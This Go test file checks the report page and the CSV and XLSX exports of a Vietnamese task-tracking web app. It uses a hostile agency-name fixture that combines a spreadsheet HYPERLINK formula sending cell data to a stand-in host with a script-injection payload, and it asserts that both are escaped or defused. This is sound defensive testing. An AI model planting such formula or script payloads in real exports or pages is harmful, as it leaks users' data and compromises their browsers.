package httpui

import (
	"bytes"
	"encoding/csv"
	"io"
	"mime"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/ninhthuan/nhachan/internal/model"
	"github.com/ninhthuan/nhachan/internal/report"
)

// reportEvilName is the hostile agency's name in the report tests: a
// formula, markup and an address, all at once.
const reportEvilName = `=HYPERLINK("http://x.example/?"&A1,"Bấm") <script>alert(1)</script> lienhe@evil.example`

// newReportFixture is the fixture with the hostile agency renamed to
// reportEvilName.
func newReportFixture(t *testing.T) *fixture {
	t.Helper()
	f := newFixture(t)
	st := f.rt.Setup
	var agencies []*model.Agency
	for _, a := range st.Planner.Directory.Agencies() {
		c := *a
		if c.ID == "evil" {
			c.Name = reportEvilName
		}
		agencies = append(agencies, &c)
	}
	st.Planner = &model.Planner{Directory: model.NewDirectory(agencies, nil),
		Calendar: st.Planner.Calendar, Schedules: st.Planner.Schedules}
	f.rt.Setup = st
	return f
}

// The fixture's 2026 rows as of 15/6/2026, after the name: Headers[1:].
var wantReportRows = map[string]string{
	"Sở Nội vụ":  "1|0|1|5|0|0|0.0%|2|0",
	"Sở Tư pháp": "1|1|0|0|0|0|100.0%|1|0",
	"evil":       "2|0|0|17|1|1|0.0%|1|0",
}

func TestReportPage(t *testing.T) {
	f := newReportFixture(t)
	for _, target := range []string{"/bao-cao", "/bao-cao?nam=2026"} {
		t.Run(target, func(t *testing.T) {
			res := f.do(http.MethodGet, target)
			b, _ := io.ReadAll(res.Body)
			body := string(b)
			if res.StatusCode != http.StatusOK || res.Header.Get("Content-Type") != "text/html; charset=utf-8" {
				t.Fatalf("%d %q", res.StatusCode, res.Header.Get("Content-Type"))
			}
			for _, want := range []string{
				`<link rel="stylesheet" href="/static/style.css">`,
				`<div class="scroll">`, `<table class="compliance">`,
				"Tình hình thực hiện nhiệm vụ năm 2026",
				`href="/bao-cao.csv?nam=2026"`, `href="/bao-cao.xlsx?nam=2026"`,
				`href="/bao-cao?nam=2025"`, `href="/bao-cao?nam=2027"`,
				"Sở Tư pháp", "<td>100,0%</td>",
				"=HYPERLINK(&#34;http://x.example/?&#34;&amp;A1,&#34;Bấm&#34;) &lt;script&gt;alert(1)&lt;/script&gt; " + maskedAddr,
			} {
				if !strings.Contains(body, want) {
					t.Errorf("no %q in the page", want)
				}
			}
			if strings.Count(body, "<tr") != 1+len(wantReportRows) {
				t.Errorf("%d <tr>, want %d", strings.Count(body, "<tr"), 1+len(wantReportRows))
			}
			// The CSP allows the stylesheet only: no inline style or script.
			for _, bad := range []string{"<script", "<style", "style=", "@"} {
				if strings.Contains(body, bad) {
					t.Errorf("the page holds %q", bad)
				}
			}
		})
	}
}

func TestReportPageEmptyYear(t *testing.T) {
	f := newReportFixture(t)
	code, body := f.get("/bao-cao?nam=2030")
	if code != http.StatusOK || !strings.Contains(body, "Không có nhiệm vụ nào trong năm 2030.") ||
		!strings.Contains(body, "Năm 2030 chưa có nghĩa vụ nào: hệ thống lập các nghĩa vụ khi gần đến hạn.") {
		t.Errorf("%d:\n%s", code, body)
	}
	// Before the tracking start (01/01/2026 in the fixture), the page says so.
	code, body = f.get("/bao-cao?nam=2024")
	if code != http.StatusOK || !strings.Contains(body, "việc theo dõi bắt đầu từ ngày 01/01/2026") {
		t.Errorf("%d:\n%s", code, body)
	}
	// A year with duties has no such note.
	if _, body = f.get("/bao-cao?nam=2026"); strings.Contains(body, `role="status"`) {
		t.Errorf("a year with duties is said to be empty:\n%s", body)
	}
}

func TestReportBadYear(t *testing.T) {
	f := newReportFixture(t)
	for _, path := range []string{"/bao-cao", "/bao-cao.csv", "/bao-cao.xlsx"} {
		for _, q := range []string{"abc", "1999", "2101", "2026.5", "%3Cscript%3Ealert(1)%3C/script%3E", "a%40b.example"} {
			target := path + "?nam=" + q
			res := f.do(http.MethodGet, target)
			b, _ := io.ReadAll(res.Body)
			body := string(b)
			if res.StatusCode != http.StatusBadRequest || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/html") {
				t.Errorf("GET %s = %d %q, want a 400 page", target, res.StatusCode, res.Header.Get("Content-Type"))
			}
			if !strings.Contains(body, "Yêu cầu không hợp lệ") || !strings.Contains(body, "không hợp lệ: xin nhập một năm") {
				t.Errorf("GET %s: no Vietnamese message:\n%s", target, body)
			}
			if strings.Contains(body, "<script>") || strings.Contains(body, "@") || res.Header.Get("Content-Disposition") != "" {
				t.Errorf("GET %s: the error page echoes the value raw or is an attachment", target)
			}
		}
	}
}

// download fetches an attachment and checks its headers.
func download(t *testing.T, f *fixture, target, contentType, filename string) []byte {
	t.Helper()
	res := f.do(http.MethodGet, target)
	b, _ := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET %s = %d:\n%s", target, res.StatusCode, b)
	}
	if got := res.Header.Get("Content-Type"); got != contentType {
		t.Errorf("Content-Type = %q, want %q", got, contentType)
	}
	disp, params, err := mime.ParseMediaType(res.Header.Get("Content-Disposition"))
	if err != nil || disp != "attachment" || params["filename"] != filename {
		t.Errorf("Content-Disposition = %q (%v), want an attachment named %s", res.Header.Get("Content-Disposition"), err, filename)
	}
	if res.Header.Get("Content-Security-Policy") == "" || res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Error("no security headers on the download")
	}
	return b
}

func TestReportCSVDownload(t *testing.T) {
	f := newReportFixture(t)
	b := download(t, f, "/bao-cao.csv?nam=2026", "text/csv; charset=utf-8", "bao-cao-2026.csv")
	body, ok := bytes.CutPrefix(b, []byte("\uFEFF"))
	if !ok {
		t.Error("no byte order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if strings.Join(recs[0], "|") != strings.Join(report.Headers[:], "|") {
		t.Errorf("header = %q", recs[0])
	}
	if len(recs) != 1+len(wantReportRows) {
		t.Fatalf("%d records, want %d", len(recs), 1+len(wantReportRows))
	}
	for _, r := range recs[1:] {
		name := r[0]
		if strings.HasPrefix(name, "'=HYPERLINK") {
			if strings.Contains(name, "@") || !strings.Contains(name, maskedAddr) {
				t.Errorf("hostile name %q: address not masked", name)
			}
			name = "evil"
		}
		if strings.ContainsRune("=+-@", rune(r[0][0])) {
			t.Errorf("name %q starts with a formula character", r[0])
		}
		if got := strings.Join(r[1:], "|"); got != wantReportRows[name] {
			t.Errorf("%s: %s, want %s", name, got, wantReportRows[name])
		}
	}
}

func TestReportXLSXDownload(t *testing.T) {
	f := newReportFixture(t)
	b := download(t, f, "/bao-cao.xlsx?nam=2026", contentTypeXLSX, "bao-cao-2026.xlsx")
	xf, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("not a valid workbook: %v", err)
	}
	defer xf.Close()
	sheet := report.SheetName(2026)
	rows, err := xf.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(wantReportRows) {
		t.Fatalf("%d rows, want %d: %q", len(rows), 1+len(wantReportRows), rows)
	}
	found := false
	for i, r := range rows[1:] {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if formula, _ := xf.GetCellFormula(sheet, cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
		if strings.ContainsRune("=+-@", rune(r[0][0])) || strings.Contains(r[0], "@") {
			t.Errorf("%s = %q: not defused", cell, r[0])
		}
		found = found || strings.HasPrefix(r[0], "'=HYPERLINK")
	}
	if !found {
		t.Error("no row for the hostile agency")
	}
}

func TestReportHeadAndState(t *testing.T) {
	f := newReportFixture(t)
	before := f.snapshot()
	for _, target := range []string{"/bao-cao?nam=2026", "/bao-cao.csv?nam=2026", "/bao-cao.xlsx?nam=2026"} {
		for _, m := range []string{http.MethodGet, http.MethodHead} {
			if code, _ := f.request(m, target); code != http.StatusOK {
				t.Errorf("%s %s = %d", m, target, code)
			}
		}
		if code, _ := f.request(http.MethodPost, target); code != http.StatusMethodNotAllowed {
			t.Errorf("POST %s = %d, want 405", target, code)
		}
	}
	if f.snapshot() != before {
		t.Error("the report changed the database")
	}
}
